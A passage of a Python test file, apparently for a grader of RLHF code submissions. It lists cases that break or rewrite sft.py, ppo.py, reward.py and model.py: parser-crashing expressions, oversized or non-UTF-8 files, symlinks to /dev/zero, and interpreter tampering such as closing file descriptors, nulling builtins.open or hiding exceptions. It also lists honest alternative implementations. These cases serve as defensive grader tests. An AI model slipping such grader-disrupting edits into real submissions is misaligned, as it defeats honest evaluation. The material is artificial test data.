    ("deleted", "sft.py", source("sft.py", "sft_loss"), "", ["sft"],
     "sft_loss is missing in sft.py"),
    ("arguments more", "ppo.py", GAE_DEF, GAE_DEF.replace("lam:", "gamma, lam:"), ["gae"],
     "TypeError"),
    ("in a branch", "ppo.py", source("ppo.py", "gae"),
     "if True:\n" + textwrap.indent(source("ppo.py", "gae"), "    "), ["gae"], "gae is missing"),
    ("helper outside", "ppo.py", GAE_DEF,
     "def helper(x):\n    return x\n\n\n" + GAE_DEF + "    rewards = helper(rewards)\n", ["gae"],
     "NameError: name 'helper' is not defined"),
    ("helper inside", *gae("""
        def helper(x):
            return x

        rewards = helper(rewards)
     """), [], ""),
    ("import outside", "ppo.py", GAE, body("itertools.count()") + GAE, ["gae"],
     "NameError: name 'itertools' is not defined"),
    ("type of an argument imported outside", "ppo.py", GAE_DEF,
     "from torch import Tensor\n\n\n" + GAE_DEF.replace("rewards,", "rewards: Tensor,"), [], ""),
    ("defined twice", "ppo.py", "", "\ndef gae(*args):\n    return args\n", ["gae"], "ValueError"),
    ("syntax error", "ppo.py", "", "\ndef\n", PPO, "ppo.py is not Python"),
    ("indentation error", "sft.py", SFT, SFT.strip() + "\n", ["sft"], "sft.py is not Python"),
    ("NUL", "sft.py", "", "\0", ["sft"], "sft.py is not Python"),
    ("empty file", "model.py", None, "", MODEL, "Attention.forward is missing in model.py"),
    ("not UTF-8", "sft.py", None, own("sft.py").encode() + b"# \xe9\n", ["sft"], "not UTF-8"),
    ("UTF-16", "sft.py", None, own("sft.py").encode("utf-16"), ["sft"], "not UTF-8"),
    ("five megabytes", "reward.py", "", "#" * 5_000_000, ["ranking", "centre"], "megabyte"),
    ("folder", "sft.py", None, {}, ["sft"], "sft.py is missing"),
    ("in a folder", "sft.py", None, {"sft.py": own("sft.py")}, ["sft"], "sft.py is missing"),
    ("missing", "model.py", None, None, MODEL, "model.py is missing"),
    ("device without an end", "sft.py", None, Path("/dev/zero"), ["sft"], "sft.py is missing"),
    ("link to itself", "sft.py", None, Path("sft.py"), ["sft"], "sft.py is missing"),
    ("parentheses", "ppo.py", "", "\nx = " + "(" * 99_999, PPO, "ppo.py is not Python"),
    ("minus signs", "ppo.py", "", "\nx = " + "-" * 99_999 + "1\n", PPO, "ppo.py is not Python"),
    ("sum of a hundred thousand", "ppo.py", "", "\nx = " + "1 + " * 99_999 + "1\n", PPO,
     "ppo.py is not Python"),
    ("sum of a thousand in the function", *gae("x = " + "1 + " * 999 + "1"), [], ""),
    ("subscripts", "ppo.py", "", "\nx = a" + "[0]" * 99_999 + "\n", PPO, "ppo.py is not Python"),
    ("half a million statements", "model.py", "", "\n" + "x;" * 490_000, [], ""),
    ("f-string of a megabyte", "model.py", "", '\nf"' + "{a}" * 300_000 + '"\n', [], ""),
    # ------------------------------------------------------------ honest, if unusual: the file
    ("nothing changed", "ppo.py", "", "", [], ""),
    ("CRLF", "ppo.py", None, own("ppo.py").replace("\n", "\r\n").encode(), [], ""),
    ("CR", "model.py", None, own("model.py").replace("\n", "\r").encode(), [], ""),
    ("byte order mark", "ppo.py", None, codecs.BOM_UTF8 + own("ppo.py").encode(), [], ""),
    ("tabs", "model.py", None, own("model.py").replace("    ", "\t"), [], ""),
    ("two spaces", "model.py", None,
     "\n".join(" " * ((len(line) - len(line.lstrip())) // 2) + line.lstrip()
               for line in own("model.py").split("\n")), [], ""),
    ("form feed", "ppo.py", GAE_DEF, "\x0c\n" + GAE_DEF, [], ""),
    ("line separators in a comment", "ppo.py", GAE_DEF, "# \x85 \u2028 \x1c\n" + GAE_DEF, [], ""),
    ("no newline at the end", "sft.py", None, own("sft.py").rstrip(), [], ""),
    ("comment at the margin of a method", "model.py", "        return self.proj(y)\n",
     "# print(y.shape)\n        return self.proj(y)\n", [], ""),
    ("bracket at the margin of a method", "model.py", "        return self.proj(y)\n",
     "        return self.proj(\ny\n)\n", [], ""),
    ("string at the margin of a method", "model.py", LOGPROBS_END,
     '        """\nA note of several\nlines.\n        """\n' + LOGPROBS_END, [], ""),
    ("all words of the world", *gae('naïve = "日本語 🙂"  # écrit à la main'), [], ""),
    ("one line", "sft.py", "def sft_loss(model, tokens, mask):\n",
     "def sft_loss(model, tokens, mask): return -model.logprobs(tokens, mask).sum() / mask.sum()\n"
     "def rest(model, tokens, mask):\n", [], ""),
    ("types", "ppo.py", GAE_DEF, "def gae(rewards: torch.Tensor, values, mask, lam: float) -> "
     "tuple[torch.Tensor, torch.Tensor]:\n", [], ""),
    # ------------------------------------------------------------ honest, if unusual: the code
    ("gae as a product of matrices", "ppo.py", GAE_BODY, """\
    T = rewards.shape[1]
    values = values * mask
    delta = (rewards + torch.nn.functional.pad(values[:, 1:], (0, 1)) - values) * mask
    steps = torch.arange(T)[:, None] - torch.arange(T)
    powers = torch.where(steps >= 0, lam ** steps.clamp(min=0).to(delta.dtype), 0)
    advantages = delta @ powers * mask
    return advantages, advantages + values
""", [], ""),
    ("gae by recursion", "ppo.py", GAE_BODY, """\
    def after(t):
        if t == rewards.shape[1]:
            return [], torch.zeros_like(rewards[:, 0]), torch.zeros_like(rewards[:, 0])
        rest, following, running = after(t + 1)
        now = (rewards[:, t] + following - values[:, t] + lam * running) * mask[:, t]
        return [now, *rest], values[:, t] * mask[:, t], now

    advantages = torch.stack(after(0)[0], dim=1)
    return advantages, (advantages + values) * mask
""", [], ""),
    ("attention of PyTorch", "model.py", ATTENTION, """\
        y = F.scaled_dot_product_attention(q, k, v, attn_mask=visible)
        y = y.transpose(1, 2).reshape(B, T, C)
""", [], ""),
    ("attention by einsum", "model.py", ATTENTION, """\
        att = torch.einsum("bhtd,bhmd->bhtm", q, k) * (C // self.heads) ** -0.5
        att = torch.where(visible, att, float("-inf")).softmax(-1)
        y = torch.einsum("bhtm,bhmd->bthd", att, v).flatten(2)
""", [], ""),
    ("draw by multinomial", "model.py", DRAW_BODY, """\
    if temperature == 0:
        return logits.argmax(dim=-1)
    return torch.multinomial((logits / temperature).softmax(-1), 1).squeeze(1)
""", [], ""),
    ("draw by Gumbel noise", "model.py", DRAW_BODY, """\
    if temperature == 0:
        return logits.argmax(dim=-1)
    noise = -torch.log(-torch.log(torch.rand_like(logits)))
    return (logits / temperature + noise).argmax(dim=-1)
""", [], ""),
    ("draw by Categorical", "model.py", DRAW_BODY, """\
    if temperature == 0:
        return logits.max(dim=1).indices
    return torch.distributions.Categorical(logits=logits / temperature).sample()
""", [], ""),
    ("cache by a loop", "model.py", REMEMBER, """\
    for row in range(len(k)):
        for t, position in enumerate(positions[row].tolist()):
            cache[0, row, :, position] = k[row, :, t]
            cache[1, row, :, position] = v[row, :, t]
""", [], ""),
    ("cache by scatter", "model.py", REMEMBER, """\
    index = positions[:, None, :, None].expand_as(k)
    cache[0].scatter_(2, index, k)
    cache[1].scatter_(2, index, v)
""", [], ""),
    ("mask by pad_sequence", "model.py", MASK_BODY, """\
    from torch.nn.utils.rnn import pad_sequence

    require_room(prompts, context)
    rows = [torch.tensor((p + r)[:context]) for p, r in zip(prompts, responses)]
    masks = [(torch.arange(len(row)) >= len(p)).float() for p, row in zip(prompts, rows)]
    tokens = pad_sequence(rows, batch_first=True, padding_value=pad)
    return tokens.to(device), pad_sequence(masks, batch_first=True).to(device)
""", [], ""),
    ("logprobs by cross_entropy", "model.py", LOGPROBS_END, """\
        logp[:, 1:][chosen] = -F.cross_entropy(logits, following, reduction="none")
        return logp
""", [], ""),
    ("loss of the chosen tokens", "sft.py", SFT,
     "    return -model.logprobs(tokens, mask)[mask > 0].mean()\n", [], ""),
    ("ranking by loops", "reward.py", RANKING_END, """\
    means = []
    for row in range(len(scores)):
        found = [F.logsigmoid(scores[row, i] - scores[row, j]) for i, j in beats[row].nonzero()]
        means += [-sum(found) / len(found)] if found else []
    return sum(means) / len(means) if means else scores.sum() * 0
""", [], ""),
    ("ranking by softplus", "reward.py", RANKING_END, """\
    pairs = beats.sum(dim=(1, 2))
    losses = torch.where(beats, F.softplus(-margins), 0).sum(dim=(1, 2))
    return (losses / pairs.clamp(min=1))[pairs > 0].sum() / (pairs > 0).sum().clamp(min=1)
""", [], ""),
    ("centre by tensors", "reward.py", CENTRE_END,
     "    model.scalar.bias.data = model.scalar.bias.data - torch.tensor(scores).mean()\n", [], ""),
    ("rewards by index", "ppo.py", REWARDS_END + "\n\n" + GAE_DEF, """\
    rewards[torch.arange(len(mask)), last_token(mask)] += scores
    return rewards


""" + GAE_DEF, [], ""),
    ("whitened by selection", "ppo.py", WHITEN, """\
    chosen = x[mask > 0]
    white = torch.zeros_like(x)
    white[mask > 0] = (chosen - chosen.mean()) / (chosen.std(unbiased=False) + 1e-8)
    return white
""", [], ""),
    ("gain and not loss", "ppo.py", POLICY_END,
     "    return -(torch.min(-unclipped, -clipped) * mask).sum() / mask.sum()\n", [], ""),
    ("value by where", "ppo.py", VALUE_END, """\
    first, second = (values - returns) ** 2, (moved - returns) ** 2
    worse = torch.where(first > second, first, second)
    return 0.5 * worse[mask > 0].mean()
""", [], ""),
    ("average of data", "ppo.py", EMA, "        a.data = decay * a.data + (1 - decay) * p.data\n",
     [], ""),
    ("average of state dicts", "ppo.py", "    for a, p in zip(average.parameters(), "
     "model.parameters()):\n" + EMA, """\
    new = model.state_dict()
    average.load_state_dict({n: decay * a + (1 - decay) * new[n]
                             for n, a in average.state_dict().items()})
""", [], ""),
    # ---------------------------------------------------------- honest, if they leave a mess
    ("warnings", *gae("import warnings; warnings.warn('careful'); warnings.simplefilter('error')"),
     [], ""),
    ("random numbers", *gae("import random; torch.manual_seed(7); random.seed(7); torch.rand(9)"),
     [], ""),
    ("threads of torch", *gae("torch.set_num_threads(64)"), [], ""),
    ("default of half precision", *gae("torch.set_default_dtype(torch.float16)"), [], ""),
    ("no gradients any more", *gae("torch.set_grad_enabled(False)"), [], ""),
    ("deep copies", *gae("""
        import copy
        rewards, values = copy.deepcopy([rewards, values])
     """), [], ""),
    ("trace, hooks and exits", *gae("""
        import atexit, sys
        sys.settrace(lambda *args: None)
        sys.setprofile(lambda *args: None)
        sys.excepthook = sys.unraisablehook = lambda *args: None
        atexit.register(print, "never")
     """), [], ""),
    ("no garbage collection", *gae("import gc; gc.disable(); gc.freeze()"), [], ""),
    ("closed files", *gae("import os; os.closerange(0, 99)"), [], ""),
    ("other streams", *gae("import io, sys; sys.stdout = sys.stderr = sys.stdin = io.StringIO()"),
     [], ""),
    ("another folder", *gae("import os; os.chdir('/')"), [], ""),
    ("no open", *gae("import builtins; builtins.open = None"), [], ""),
    ("a recursion limit of 60", *gae("import sys; sys.setrecursionlimit(60)"), ["gae"], ""),
]  # fmt: skip


def submit(cheat: tuple, folder: Path) -> None:
    """Makes the folder of a submission."""
    name, file, right, wrong, *_ = cheat
    folder.mkdir(parents=True)
    for other in FILES:
        shutil.copy(ROOT / other, folder)
    text, place = own(file), folder / file
    if right is not None:
        if right and text.count(right) != 1:
            raise ValueError(f"{name}: {file} has {text.count(right)} places like {right!r}")
        wrong = text.replace(right, wrong) if right else text + wrong
    place.unlink()
    put(place, wrong)


def put(place: Path, content) -> None:
    if isinstance(content, dict):
        place.mkdir()
        for name, inner in content.items():
            put(place / name, inner)
    elif isinstance(content, Path):
        place.symlink_to(content)
    elif content is not None:
        place.write_bytes(content.encode() if isinstance(content, str) else content)
